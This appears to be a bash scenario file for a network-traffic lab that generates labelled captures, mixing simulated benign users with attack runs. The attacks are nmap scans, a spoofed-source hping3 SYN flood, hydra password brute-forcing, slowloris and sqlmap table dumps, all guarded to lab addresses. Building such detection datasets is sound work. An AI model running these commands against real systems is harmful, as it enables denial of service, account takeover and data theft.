# shellcheck shell=bash
# shellcheck disable=SC2034,SC2153  # RUN_TOOLS/RUN_NOTES are read by run.sh; settings come from lib.sh
# Scenario functions for lab/run.sh. Sourced after lib.sh; run.sh sets these per run:
#   RUN_DIR, SEED, C_ADDRS (client sources), A_ADDRS (attacker sources), T_ADDRS (server
#   targets), T_HTTP T_HTTPS T_SSH (server ports picked for this run), A_TTL, RUN_SECS.
# Every tool call is wrapped in `timeout` and has its own count or rate limit; attack tools run
# only in fcl-attacker and only ever get a server address from SERVER_ADDRS.

SSH_OPTS=(-F /dev/null -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR
  -o ConnectTimeout=5 -o ServerAliveInterval=5)
WEB_NAMES=(www files api cdn docs)
DNS_NAMES=(www files api shell cdn docs git mail)

cl() { nsx "$NS_CLIENT" "$@"; }
at() { nsx "$NS_ATTACKER" "$@"; }

rsleep() { # rsleep MIN_MS MAX_MS
  local ms
  rand ms "$1" "$2"
  sleep "$((ms / 1000)).$(printf '%03d' $((ms % 1000)))"
}

guard_target() { # refuse anything that is not one of our own server addresses
  local t=$1 a
  for a in "${SERVER_ADDRS[@]}"; do [[ $t == "$a" ]] && return 0; done
  die "refusing to attack $t: not a lab server address"
}

# ---------------------------------------------------------------- benign traffic (client ns)

web_action() {
  local src name proto port host url k=() n i page sz obj
  pick src "${C_ADDRS[@]}"
  pick name "${WEB_NAMES[@]}"
  if chance 50; then
    proto=https
    pick port "${HTTPS_PORTS[@]}"
    k=(-k)
  else
    proto=http
    pick port "${HTTP_PORTS[@]}"
  fi
  # by name (a DNS lookup first, like a browser) or by address
  if chance 70; then host="$name.$LAB_DOMAIN"; else pick host "${SERVER_ADDRS[@]}"; fi
  url="$proto://$host:$port"
  rand page 1 20
  pick sz 1 4 16 64 256 1024 4096
  case $((RANDOM % 8)) in
  0 | 1) # one page
    cl timeout 10 curl -s "${k[@]}" --interface "$src" -o /dev/null "$url/docs/page$page.html" ;;
  2) # a page and its objects over one keep-alive connection
    local args=()
    rand n 2 8
    for ((i = 0; i < n; i++)); do
      if ((i % 2)); then obj="style$((RANDOM % 12 + 1)).css"; else obj="img$((RANDOM % 12 + 1)).png"; fi
      args+=(-o /dev/null "$url/static/$obj")
    done
    cl timeout 15 curl -s "${k[@]}" --interface "$src" -o /dev/null "$url/docs/page$page.html" "${args[@]}" ;;
  3) # download, sometimes rate-limited like a slow link
    local lim=()
    chance 40 && lim=(--limit-rate="$((RANDOM % 900 + 100))k")
    cl timeout 12 wget -q "${lim[@]}" --no-check-certificate --bind-address="$src" -O /dev/null "$url/files/blob-${sz}k.bin" ;;
  4) # browse a page with its requisites
    local tmp
    tmp=$(mktemp -d "$RUN_DIR/tmp.XXXX")
    cl timeout 12 wget -q -p -np -l 1 --no-check-certificate --bind-address="$src" -P "$tmp" "$url/docs/page$page.html" || true
    rm -rf "$tmp" ;;
  5) # an API client
    if chance 50; then
      cl timeout 8 curl -s "${k[@]}" --interface "$src" -o /dev/null -H 'Accept: application/json' "$url/api.json"
    else
      cl timeout 8 curl -s "${k[@]}" --interface "$src" -o /dev/null -X POST -H 'Content-Type: application/json' \
        -d "{\"id\":$RANDOM,\"q\":\"$page\"}" "$url/api.json"
    fi ;;
  6) # a legitimate user of the login page and the item/search pages the attacks target
    if chance 50; then
      cl timeout 8 curl -s "${k[@]}" --interface "$src" -o /dev/null -c /dev/null \
        -d "username=$LAB_USER&password=$LAB_PASS" "$url/app/login"
    else
      cl timeout 8 curl -s "${k[@]}" --interface "$src" -o /dev/null "$url/app/item?id=$((RANDOM % 10 + 1))" \
        -o /dev/null "$url/app/search?q=$(pick_word)"
    fi ;;
  7) # index page then a file, two separate connections
    cl timeout 8 curl -s "${k[@]}" --interface "$src" -o /dev/null "$url/"
    cl timeout 10 curl -s "${k[@]}" --interface "$src" -o /dev/null "$url/files/blob-${sz}k.bin" ;;
  esac
}

pick_word() {
  local w=(lamp desk chair cable router switch laptop phone mug pen)
  echo "${w[RANDOM % ${#w[@]}]}"
}

dns_action() {
  local src name type tool n i
  pick src "${C_ADDRS[@]}"
  rand n 1 4
  for ((i = 0; i < n; i++)); do
    case $((RANDOM % 10)) in
    0 | 1 | 2 | 3 | 4) pick name "${DNS_NAMES[@]}"; name="$name.$LAB_DOMAIN" ;;
    5 | 6) name="$LAB_DOMAIN" ;;
    7) name="_ssh._tcp.$LAB_DOMAIN" ;;
    8) name="host$RANDOM.$LAB_DOMAIN" ;; # NXDOMAIN, as typos and stale names do
    9) pick name example.com debian.org updates.internal ;; # answered REFUSED: no upstream
    esac
    pick type A A A AAAA MX TXT SRV ANY
    pick tool dig dig host nslookup
    case $tool in
    dig) cl timeout 4 dig +time=1 +tries=1 -b "$src" "@$DNS_ADDR" "$name" "$type" >/dev/null || true ;;
    host) cl timeout 4 host -W 1 -t "$type" "$name" "$DNS_ADDR" >/dev/null || true ;;
    nslookup) cl timeout 4 nslookup -timeout=1 -type="$type" "$name" "$DNS_ADDR" >/dev/null || true ;;
    esac
    rsleep 10 400
  done
}

ssh_action() {
  local src port target cmds i n f
  pick src "${C_ADDRS[@]}"
  pick port "${SSH_PORTS[@]}"
  pick target "${SERVER_ADDRS[@]}" "shell.$LAB_DOMAIN"
  local key=(-i "$ASSETS/client_key" -o BatchMode=yes)
  case $((RANDOM % 6)) in
  0 | 1) # an interactive shell: lines typed with pauses between them
    rand n 3 8
    cmds=(ls "uptime" "df -h" "ps aux | head" "cat notes.txt | head -20" "uname -a" "id" "free -m" "w" "ls -la /tmp")
    {
      for ((i = 0; i < n; i++)); do
        echo "${cmds[RANDOM % ${#cmds[@]}]}"
        rsleep 200 1500
      done
      echo exit
    } | cl timeout 20 ssh -tt "${SSH_OPTS[@]}" "${key[@]}" -b "$src" -p "$port" "$LAB_USER@$target" >/dev/null 2>&1 || true ;;
  2) # a remote command
    cl timeout 10 ssh "${SSH_OPTS[@]}" "${key[@]}" -b "$src" -p "$port" "$LAB_USER@$target" \
      "uptime; sleep 0.$((RANDOM % 9 + 1)); ls -l" >/dev/null 2>&1 || true ;;
  3) # password login, as people without keys do
    cl timeout 10 sshpass -p "$LAB_PASS" ssh "${SSH_OPTS[@]}" -o PubkeyAuthentication=no -b "$src" -p "$port" \
      "$LAB_USER@$target" "hostname; date" >/dev/null 2>&1 || true ;;
  4) # scp upload
    f=$(mktemp "$RUN_DIR/tmp.XXXX")
    head -c $((RANDOM * (RANDOM % 40 + 1))) /dev/urandom >"$f"
    cl timeout 15 scp -q "${SSH_OPTS[@]}" "${key[@]}" -o BindAddress="$src" -P "$port" "$f" "$LAB_USER@$target:/tmp/up.$RANDOM" >/dev/null 2>&1 || true
    rm -f "$f" ;;
  5) # scp download
    pick f notes.txt backup.tar
    cl timeout 15 scp -q "${SSH_OPTS[@]}" "${key[@]}" -o BindAddress="$src" -P "$port" "$LAB_USER@$target:$f" /dev/null >/dev/null 2>&1 || true ;;
  esac
}

# One simulated user: random actions with think time until the deadline.
benign_user() { # benign_user SEED SECS MIN_THINK_MS MAX_THINK_MS
  RANDOM=$1
  local end=$((EPOCHSECONDS + $2)) r
  while ((EPOCHSECONDS < end)); do
    r=$((RANDOM % 100))
    if ((r < 55)); then
      web_action || true
    elif ((r < 80)); then
      dns_action || true
    else
      ssh_action || true
    fi
    rsleep "$3" "$4"
  done
}

# Several users in parallel, each with its own seed so they do not repeat each other.
benign_traffic() { # benign_traffic USERS SECS MIN_THINK_MS MAX_THINK_MS
  local i pids=()
  for ((i = 0; i < $1; i++)); do
    benign_user "$((SEED * 131 + i * 17 + 1))" "$2" "$3" "$4" &
    pids+=($!)
  done
  wait "${pids[@]}" || true
}

# Attack runs carry light benign traffic alongside, so a capture is never "all one class".
with_background() { # with_background CMD...
  benign_traffic 2 "$RUN_SECS" 200 2000 &
  local bg=$!
  "$@"
  wait "$bg" || true
}

scenario_benign() {
  local users
  rand users 3 5
  RUN_NOTES+=("users=$users")
  benign_traffic "$users" "$RUN_SECS" 20 700
}

# ---------------------------------------------------------------- attacks (attacker ns)

# A port list that always contains a few of the server's open ports among closed ones.
port_list() { # port_list VAR COUNT
  # locals carry a _pl prefix: the nameref would otherwise bind to a local of the same name
  local -n _pl=$1
  local _pl_n=$2 _pl_ports=("$T_HTTP" "$T_HTTPS" "$T_SSH") _pl_p
  while ((${#_pl_ports[@]} < _pl_n)); do
    _pl_p=$((RANDOM % 12000 + 1))
    _pl_ports+=("$_pl_p")
  done
  pick_n _pl_ports "${#_pl_ports[@]}" "${_pl_ports[@]}"
  _pl=$(
    IFS=,
    echo "${_pl_ports[*]}"
  )
}

run_nmap() { # run_nmap KIND
  local kind=$1 rate ports="" n tmpl targets=() extra=()
  rand rate 200 1500
  pick tmpl -T3 -T4 -T4 -T5
  targets=("${T_ADDRS[@]}")
  case $((RANDOM % 4)) in
  0) ports="1-1024" ;;
  1) rand n 100 1000; extra+=(--top-ports "$n") ;;
  2) rand n 1500 6000; ports="1-$n" ;;
  3) rand n 30 400; port_list ports "$n" ;;
  esac
  chance 50 && extra+=(-Pn)
  case $kind in
  syn) extra+=(-sS --ttl "$A_TTL") ; chance 20 && extra+=(-g 53) ;;
  connect) extra+=(-sT) ;;
  version)
    # version probing is slow per open port; closed ones cost one RST, so the list can be longer
    rand n 30 150
    port_list ports "$n"
    extra=(-sV --version-intensity "$((RANDOM % 6 +2))" -Pn)
    chance 50 && extra+=(-sT)
    ;;
  esac
  [[ -n $ports ]] && extra+=(-p "$ports")
  local t
  for t in "${targets[@]}"; do guard_target "$t"; done
  RUN_TOOLS+=("nmap $tmpl -n --max-rate $rate --max-retries 2 ${extra[*]} ${targets[*]}")
  at timeout 40 nmap "$tmpl" -n --max-rate "$rate" --max-retries 2 --host-timeout 35s -e eth0 \
    "${extra[@]}" "${targets[@]}" >>"$RUN_DIR/tool.log" 2>&1 || true
}

scenario_portscan() {
  local kinds=(syn connect version) first second
  pick first "${kinds[@]}"
  run_nmap "$first"
  if chance 40; then
    pick second "${kinds[@]}"
    rsleep 200 2000
    set_src_addr "$NS_ATTACKER" "${A_ADDRS[-1]}"
    run_nmap "$second"
  fi
}

# A flood from spoofed sources gets no RSTs back for the server's SYN-ACKs; dropping the
# attacker kernel's RSTs gives that shape while keeping the real, labelled source address.
drop_attacker_rsts() {
  at nft -f - <<'NFT'
table inet fcl_lab {
  chain out {
    type filter hook output priority 0; policy accept;
    tcp flags & rst == rst drop
  }
}
NFT
}

clear_attacker_filter() {
  at nft delete table inet fcl_lab 2>/dev/null || true
}

scenario_synflood() {
  local i src port count gap extra=()
  if chance 50; then
    drop_attacker_rsts
    RUN_NOTES+=("attacker RSTs dropped (spoofed-flood shape)")
  fi
  for i in "${!A_ADDRS[@]}"; do
    src=${A_ADDRS[i]}
    if chance 70; then port=$T_HTTP; else pick port "$T_SSH" "$T_HTTPS"; fi
    rand count 1000 3000
    rand gap 150 1500
    extra=()
    chance 40 && extra+=(-w "$((RANDOM % 60000 + 1024))")
    chance 25 && extra+=(-d "$((RANDOM % 120 + 1))")
    chance 30 && extra+=(-s "$((RANDOM % 30000 + 1025))")
    guard_target "${T_ADDRS[0]}"
    RUN_TOOLS+=("hping3 -S -p $port -c $count -i u$gap -a $src --ttl $A_TTL ${extra[*]} ${T_ADDRS[0]}")
    at timeout 20 hping3 -q -S -I eth0 -p "$port" -c "$count" -i "u$gap" -a "$src" --ttl "$A_TTL" \
      "${extra[@]}" "${T_ADDRS[0]}" >>"$RUN_DIR/tool.log" 2>&1 || true
  done
  # the filter stays until run.sh has stopped the capture: the server retransmits SYN-ACKs
}

make_wordlists() {
  local users=(root admin labuser test user guest oracle ubuntu pi alice bob postgres deploy)
  local common=(123456 password 12345678 qwerty 123456789 12345 1234 111111 1234567 dragon
    123123 baseball abc123 football monkey letmein 696969 shadow master 666666 qwertyuiop
    123321 mustang 1234567890 michael 654321 superman 1qaz2wsx 7777777 121212 000000 qazwsx
    123qwe killer trustno1 jordan jennifer zxcvbnm asdfgh hunter buster soccer harley batman
    andrew tigger charlie robert thomas hockey ranger daniel starwars klaster 112233 george
    computer michelle jessica pepper 1111 zxcvbn 555555 11111111 131313 freedom 777777 pass
    maggie 159753 aaaaaa ginger princess joshua cheese amanda summer love ashley nicole)
  local nu np sel=() i
  rand nu 1 4
  pick_n sel "$nu" "${users[@]}"
  chance 60 && sel+=("$LAB_USER")
  printf '%s\n' "${sel[@]}" | sort -u >"$RUN_DIR/users.txt"
  rand np 15 60
  pick_n sel "$np" "${common[@]}"
  for ((i = 0; i < 5; i++)); do sel+=("$(printf 'p%x%x' "$RANDOM" "$RANDOM")"); done
  # sometimes the real password is there, so some runs contain a successful login
  chance 40 && sel+=("$LAB_PASS")
  pick_n sel "${#sel[@]}" "${sel[@]}"
  printf '%s\n' "${sel[@]}" >"$RUN_DIR/passwords.txt"
}

run_hydra() { # run_hydra ssh|http|https
  local svc=$1 tasks cmd=() target=${T_ADDRS[0]}
  guard_target "$target"
  rand tasks 2 6
  cmd=(hydra -I -L "$RUN_DIR/users.txt" -P "$RUN_DIR/passwords.txt" -t "$tasks" -w 5 -o "$RUN_DIR/hydra.out")
  chance 30 && cmd+=(-f)
  case $svc in
  ssh) cmd+=(-s "$T_SSH" "ssh://$target") ;;
  http) cmd+=(-s "$T_HTTP" "$target" http-post-form "/app/login:username=^USER^&password=^PASS^:F=Invalid") ;;
  https) cmd+=(-s "$T_HTTPS" "$target" https-post-form "/app/login:username=^USER^&password=^PASS^:F=Invalid") ;;
  esac
  RUN_TOOLS+=("${cmd[*]}")
  # hydra writes a restore file into its working directory
  (cd "$RUN_DIR" && at timeout 22 "${cmd[@]}" >>"$RUN_DIR/tool.log" 2>&1) || true
  rm -f "$RUN_DIR/hydra.restore"
}

scenario_bruteforce() {
  make_wordlists
  local plan
  pick plan ssh http https ssh+http ssh+https
  RUN_NOTES+=("plan=$plan")
  local first=${plan%%+*} second=${plan#*+}
  run_hydra "$first"
  if [[ $second != "$first" ]]; then
    set_src_addr "$NS_ATTACKER" "${A_ADDRS[-1]}"
    run_hydra "$second"
  fi
}

scenario_slowloris() {
  local conns interval rate secs maxlen url verb target=${T_ADDRS[0]} path
  guard_target "$target"
  rand conns 100 400
  rand interval 2 8
  rand rate 20 150
  rand secs 14 22
  rand maxlen 8 40
  pick verb GET GET POST
  pick path / /index.html /docs/page3.html /app/login /api.json
  if chance 65; then url="http://$target:$T_HTTP$path"; else url="https://$target:$T_HTTPS$path"; fi
  RUN_TOOLS+=("slowhttptest -H -c $conns -i $interval -r $rate -l $secs -x $maxlen -t $verb -u $url")
  at timeout $((secs + 10)) slowhttptest -H -c "$conns" -i "$interval" -r "$rate" -l "$secs" -x "$maxlen" \
    -p 3 -t "$verb" -u "$url" >>"$RUN_DIR/tool.log" 2>&1 || true
}

run_sqlmap() {
  local target=${T_ADDRS[0]} base level risk tech threads what extra=() url
  guard_target "$target"
  if chance 70; then base="http://$target:$T_HTTP"; else base="https://$target:$T_HTTPS"; fi
  rand level 1 3
  rand risk 1 2
  pick tech BEU BEU BU BEUS E U B B BE
  rand threads 1 4
  case $((RANDOM % 3)) in
  0) url="$base/app/item?id=$((RANDOM % 10 + 1))" ;;
  1) url="$base/app/search?q=$(pick_word)" ;;
  2) url="$base/app/login"; extra+=(--data "username=$(pick_word)&password=$RANDOM") ;;
  esac
  # the page gives in at once; what sqlmap is asked to fetch afterwards makes most of the traffic
  pick what --banner --dbs --tables --current-user "--dump -T users" "--dump -T items" --schema --count
  chance 50 && extra+=(--dbms=SQLite)
  chance 50 && extra+=(--random-agent)
  chance 30 && extra+=(--skip-heuristics)
  # shellcheck disable=SC2206  # "what" is one option or an option with its value
  extra+=($what)
  RUN_TOOLS+=("sqlmap -u $url --batch --level $level --risk $risk --technique $tech --threads $threads ${extra[*]}")
  at timeout 30 sqlmap -u "$url" --batch --flush-session --disable-coloring --output-dir="$RUN_DIR/sqlmap" \
    --level "$level" --risk "$risk" --technique "$tech" --threads "$threads" --timeout 5 --retries 1 \
    "${extra[@]}" >>"$RUN_DIR/tool.log" 2>&1 || true
}

# Two or three sqlmap sessions against different pages, as one attacker probing a site would.
scenario_sqli() {
  local n i
  rand n 2 3
  for ((i = 0; i < n; i++)); do
    ((i > 0)) && set_src_addr "$NS_ATTACKER" "${A_ADDRS[i % ${#A_ADDRS[@]}]}"
    run_sqlmap
    rsleep 100 1500
  done
}
